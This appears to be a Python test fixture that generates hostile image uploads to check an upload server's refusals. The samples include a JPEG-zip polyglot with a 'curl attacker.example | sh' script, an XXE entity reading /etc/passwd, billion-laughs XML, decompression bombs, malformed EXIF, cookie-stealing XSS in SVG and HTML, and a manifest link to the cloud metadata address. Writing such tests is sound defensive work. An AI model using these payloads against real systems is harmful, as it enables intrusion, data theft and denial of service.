"""A corpus of hostile uploads, generated (nothing here is read from disk but the C2PA
test credentials). Test code only: the product never imports it.

Each sample says what a correct server does with it: refuse it at upload with a stable
code (and which HTTP status the API gives that code), or accept it and let the checks
settle it. "Accepted" is not "trusted": such files are stored as evidence, never served
as they came (merchants get the re-encoded display copy).
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import numpy as np
from PIL import Image

# An address a server-side fetch would reach (cloud metadata): nothing may ever go there.
REMOTE_MANIFEST_URL = "http://169.254.169.254/latest/meta-data/claimlens.c2pa"
XXE_TARGET = "file:///etc/passwd"
SCRIPT = b"<script>alert(document.cookie)</script>"


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    content_type: str
    make: Callable[[], bytes]
    refused_with: str = ""  # the stable code of the refusal; "" when the file is accepted
    status: int = 201  # the API's answer

    @property
    def data(self) -> bytes:
        return self.make()


# --- building blocks --------------------------------------------------------------------


def _pixels(width: int = 320, height: int = 240, seed: int = 7) -> np.ndarray:
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([x * 255 / width, y * 255 / height, np.full_like(x, 128)], axis=-1)
    return np.clip(base + rng.normal(0, 10, (height, width, 3)), 0, 255).astype(np.uint8)


def jpeg(*, seed: int = 7, **save) -> bytes:
    out = io.BytesIO()
    Image.fromarray(_pixels(seed=seed)).save(out, "JPEG", quality=88, **save)
    return out.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


@cache
def png_of_zeros(width: int, height: int) -> bytes:
    """A *valid* 1-bit greyscale PNG of ``width`` x ``height`` black pixels: every row
    compresses to almost nothing, so a file of a few dozen KB declares (and, if anybody
    decoded it, would inflate to) hundreds of megapixels."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed bits
    packer = zlib.compressobj(9)
    chunks = [packer.compress(row * 512) for _ in range(height // 512)]
    chunks.append(packer.compress(row * (height % 512)))
    chunks.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(chunks))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) is rewritten to claim another size."""
    data = bytearray(jpeg())
    at = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def _bit_flipped() -> bytes:
    data = bytearray(jpeg(seed=11))
    scan = data.find(b"\xff\xda")
    rng = np.random.default_rng(5)
    for offset in rng.integers(scan + 20, len(data) - 2, 40):
        data[int(offset)] ^= 1 << int(rng.integers(0, 8))
    return bytes(data)


def _with_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.sh", "#!/bin/sh\ncurl http://attacker.example/x | sh\n")
    return jpeg(seed=12) + archive.getvalue()


def _xmp(doctype: str, value: str) -> bytes:
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        + doctype
        + '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" '
        f'xmp:CreatorTool="{value}"/>'
        '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return jpeg(seed=13, xmp=_xmp(f"<!DOCTYPE x:xmpmeta [{''.join(entities)}]>", "&lol9;"))


def _xxe() -> bytes:
    doctype = f'<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "{XXE_TARGET}">]>'
    return jpeg(seed=14, xmp=_xmp(doctype, "&xxe;"))


def _remote_c2pa() -> bytes:
    """Signed Content Credentials kept "on a server": the file carries only the link
    (XMP ``dcterms:provenance``), made as testing/synthetic_c2pa.py makes manifests."""
    import c2pa

    from testing import synthetic_c2pa

    cert, key = synthetic_c2pa.load_test_credentials()
    signer = c2pa.Signer.from_info(c2pa.C2paSignerInfo(b"es256", cert, key, None))
    context = c2pa.Context(settings=c2pa.Settings.from_dict(synthetic_c2pa._OFFLINE_SETTINGS))
    definition = synthetic_c2pa.manifest_definition(title="remote.jpg")
    builder = c2pa.Builder(json.dumps(definition), context=context)
    source, dest = io.BytesIO(jpeg(seed=15)), io.BytesIO()
    try:
        builder.set_no_embed()
        builder.set_remote_url(REMOTE_MANIFEST_URL)
        builder.sign(signer, "image/jpeg", source, dest)
    finally:
        builder.close()
        signer.close()
    return dest.getvalue()


def _exif(ifd: bytes) -> bytes:
    return jpeg(seed=16, exif=b"Exif\x00\x00" + ifd)


def _exif_bad_offsets() -> bytes:
    # Little-endian TIFF header whose first IFD is 4 GB away, past the end of the block.
    return _exif(b"II*\x00" + struct.pack("<I", 0xFFFFFF00))


def _exif_huge_counts() -> bytes:
    # One IFD that says it has 65535 entries, the first an ASCII Make of 2**31-1 bytes,
    # the next an offset loop pointing back at the header.
    entries = struct.pack("<HHII", 0x010F, 2, 0x7FFFFFFF, 8) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    return _exif(b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF) + entries)


def _png() -> bytes:
    out = io.BytesIO()
    Image.fromarray(_pixels(seed=23)).save(out, "PNG")
    return out.getvalue()


def _png_without_pixels() -> bytes:
    """A PNG header for 320 x 240 pixels and then the end: nothing to decode."""
    header = struct.pack(">IIBBBBB", 320, 240, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IEND", b"")


def _cmyk() -> bytes:
    out = io.BytesIO()
    Image.fromarray(_pixels(seed=17)).convert("CMYK").save(out, "JPEG", quality=85)
    return out.getvalue()


def _animated_webp() -> bytes:
    frames = [Image.fromarray(_pixels(seed=seed)) for seed in (18, 19, 20)]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=80, loop=0)
    return out.getvalue()


def _avif() -> bytes:
    out = io.BytesIO()
    Image.fromarray(_pixels(seed=21)).save(out, "AVIF", quality=70)
    return out.getvalue()


def _heic() -> bytes:
    import pillow_heif

    out = io.BytesIO()
    pillow_heif.from_pillow(Image.fromarray(_pixels(seed=22))).save(out, format="HEIF")
    return out.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    b'onload="alert(document.cookie)"><rect width="10" height="10"/>' + SCRIPT + b"</svg>"
)
HTML = b"<!doctype html><html><body><h1>photo</h1>" + SCRIPT + b"</body></html>"

SAMPLES = (
    Sample("zero_byte", "empty.jpg", "image/jpeg", lambda: b"", "empty_file", 400),
    Sample("truncated_jpeg", "cut.jpg", "image/jpeg", lambda: jpeg(seed=10)[:-3000]),
    Sample("bit_flipped_jpeg", "flipped.jpg", "image/jpeg", _bit_flipped),
    # Headers that read well and pixel data that is cut or missing: accepted at upload
    # (only headers are read while the uploader waits), rejected by the checks.
    Sample("truncated_png", "cut.png", "image/png", lambda: _png()[: len(_png()) // 2]),
    Sample("png_without_pixels", "empty-pixels.png", "image/png", _png_without_pixels),
    Sample("truncated_heic", "cut.heic", "image/heic", lambda: _heic()[:3000]),
    Sample("jpeg_zip_polyglot", "poly.jpg", "image/jpeg", _with_zip),
    Sample("jpeg_html_polyglot", "poly-html.jpg", "image/jpeg", lambda: jpeg(seed=9) + HTML),
    Sample("svg", "drawing.svg", "image/svg+xml", lambda: SVG, "unsupported_type", 415),
    Sample("svg_as_jpeg", "drawing.jpg", "image/jpeg", lambda: SVG, "unsupported_type", 415),
    Sample("html_as_jpeg", "photo.jpg", "image/jpeg", lambda: HTML, "unsupported_type", 415),
    # Decompression bombs, and sizes over the 60 MP limit on both sides of Pillow's own
    # guards (a warning from 89 MP, an error from 179 MP): always "too many pixels", 413.
    Sample(
        "png_bomb_400mp",
        "bomb.png",
        "image/png",
        lambda: png_of_zeros(20_000, 20_000),
        "too_many_pixels",
        413,
    ),
    Sample(
        "jpeg_header_65500x65500",
        "huge.jpg",
        "image/jpeg",
        lambda: _jpeg_claiming(65_500, 65_500),
        "too_many_pixels",
        413,
    ),
    Sample(
        "png_72mp",
        "big.png",
        "image/png",
        lambda: png_of_zeros(9_000, 8_000),
        "too_many_pixels",
        413,
    ),
    Sample(
        "png_100mp",
        "bigger.png",
        "image/png",
        lambda: png_of_zeros(10_000, 10_000),
        "too_many_pixels",
        413,
    ),
    Sample("xmp_billion_laughs", "laughs.jpg", "image/jpeg", _billion_laughs),
    Sample("xmp_xxe", "xxe.jpg", "image/jpeg", _xxe),
    Sample("c2pa_remote_manifest", "remote.jpg", "image/jpeg", _remote_c2pa),
    Sample("exif_bad_offsets", "exif-offsets.jpg", "image/jpeg", _exif_bad_offsets),
    Sample("exif_huge_counts", "exif-counts.jpg", "image/jpeg", _exif_huge_counts),
    Sample("cmyk_jpeg", "cmyk.jpg", "image/jpeg", _cmyk),
    Sample("animated_webp", "anim.webp", "image/webp", _animated_webp),
    Sample("avif", "photo.avif", "image/avif", _avif),
    Sample("heic", "photo.heic", "image/heic", _heic),
)
